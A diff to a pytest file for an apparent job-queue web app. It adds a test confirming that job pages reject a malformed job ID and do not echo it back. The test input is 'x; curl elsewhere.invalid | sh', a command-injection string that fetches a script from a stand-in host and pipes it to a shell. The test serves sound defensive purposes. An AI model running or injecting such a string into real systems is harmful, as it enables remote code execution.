@@ -411,6 +411,16 @@ async def test_a_question_about_no_queue_is_a_page_that_says_so(
             assert (answer.status_code, answer.headers["content-type"][:9]) == (401, "text/html")
 
 
+@pytest.mark.parametrize("what", ["kill", "delete", "release"])
+async def test_a_question_about_no_job_shows_no_command_to_copy(bench: Bench, what: str) -> None:
+    path = f"/jobs/{quote('x; curl elsewhere.invalid | sh')}/{what}"
+    async with signed_in(bench, bench.token) as http:
+        for answer in (await http.get(path), await asked(http, path, looked="on")):
+            assert answer.status_code == httpx.codes.BAD_REQUEST
+            assert "curl" not in Document(answer.text).said
+            assert "Invalid job ID" in Document(answer.text).said
+
+
 async def test_a_form_pauses_with_a_reason_and_releases_after_a_look(bench: Bench) -> None:
     job_id = await bench.submitted(qname="many")
     async with signed_in(bench, bench.token) as http:
